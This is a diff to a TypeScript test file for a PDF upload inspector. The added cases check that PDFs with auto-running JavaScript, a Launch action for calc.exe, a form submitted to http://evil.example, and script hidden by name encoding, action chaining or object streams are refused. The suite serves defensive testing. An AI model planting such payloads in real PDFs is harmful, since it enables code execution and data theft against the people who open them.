@@ -1,4 +1,4 @@
-import { createDeflate } from 'node:zlib';
+import { createDeflate, deflateSync } from 'node:zlib';
 import { buffer } from 'node:stream/consumers';
 import { createCanvas, loadImage } from '@napi-rs/canvas';
 import { INVOICE_LAYOUTS } from '../../testing/invoice-layouts.ts';
@@ -31,10 +31,26 @@ test.each<[string, () => Promise<Buffer> | Buffer, string]>([
   ['21 pages', async () => pdfOf(pages(21)), 'pages'],
   ['what is no PDF', () => Buffer.from('%PDF-1.7\nnothing of the kind'), 'unreadable'],
   ['no bytes', () => Buffer.alloc(0), 'unreadable'],
-  ['a program that starts by itself', async () => pdfWithCatalogEntry('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'unreadable'],
-  ['another file inside', async () => pdfWithAttachment(), 'unreadable'],
+  ['a program that starts by itself', async () => pdfWithCatalogEntry('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'active'],
+  ['another file inside', async () => pdfWithAttachment(), 'embedded'],
+  ['a program whose name is spelled in another way', async () => pdfWithCatalogEntry('/OpenAction << /S /Java#53cript /JS (1) >>'), 'active'],
+  ['a program that it starts', async () => pdfWithCatalogEntry('/OpenAction << /S /Launch /F (calc.exe) >>'), 'active'],
+  ['a form that it sends away', async () => pdfWithCatalogEntry('/AA << /WC << /S /SubmitForm /F (http://evil.example) >> >>'), 'active'],
+  ['a program behind a harmless action', async () => pdfWithCatalogEntry('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>'), 'active'],
+  ['a program in the tree of names', async () => pdfWithCatalogEntry('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'), 'active'],
+  ['a program in an object stream', async () => pdfWithObjectStream('<< /S /JavaScript /JS (1) >>'), 'active'],
+  ['an XFA form', async () => pdfWithCatalogEntry('/AcroForm << /Fields [] /XFA 4 0 R >>', '4 0 obj << /Length 6 >> stream\n<xdp/>\nendstream endobj\n'), 'xfa'],
 ])('refuses %s', async (_name, make, refusal) => {
   expect((await run('inspect', await make())).outcome).toEqual(refused(refusal));
+});
+
+test('accepts links and places to go to', async () => {
+  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.jp/JavaScript) >> >>';
+  const actions = '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>';
+  const linked = await pdfWithCatalogEntry(actions, `4 0 obj ${link} endobj\n`);
+  expect((await run('inspect', linked)).outcome).toEqual({ result: 'done' });
+  const packed = await pdfWithObjectStream('<< /S /URI /URI (https://example.jp/) >>');
+  expect((await run('inspect', packed)).outcome).toEqual({ result: 'done' });
 });
 
 test('accepts the same small PDF without program and file', async () => {
@@ -99,6 +115,15 @@ function withOrientation(jpeg: Buffer, orientation: number): Buffer {
   const exif = Buffer.from('457869660000' + '4d4d002a00000008' + '0001' + '0112000300000001' + `${orientation.toString(16).padStart(4, '0')}0000` + '00000000', 'hex');
   const header = Buffer.from([0xff, 0xe1, 0, exif.length + 2]);
   return Buffer.concat([jpeg.subarray(0, 2), header, exif, jpeg.subarray(2)]);
+}
+
+/** Object 7 inside a compressed stream of objects. */
+async function pdfWithObjectStream(object: string): Promise<Buffer> {
+  const packed = deflateSync(`7 0 ${object}`).toString('latin1');
+  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>`;
+  const stream = Buffer.from(`6 0 obj ${dictionary} stream\n${packed}\nendstream endobj\n`, 'latin1');
+  const [head, tail] = [await pdfWithCatalogEntry(''), Buffer.from('\ntrailer << /Root 1 0 R >>\n%%EOF')];
+  return Buffer.concat([head, stream, tail]);
 }
 
 async function pdfWithAttachment(): Promise<Buffer> {
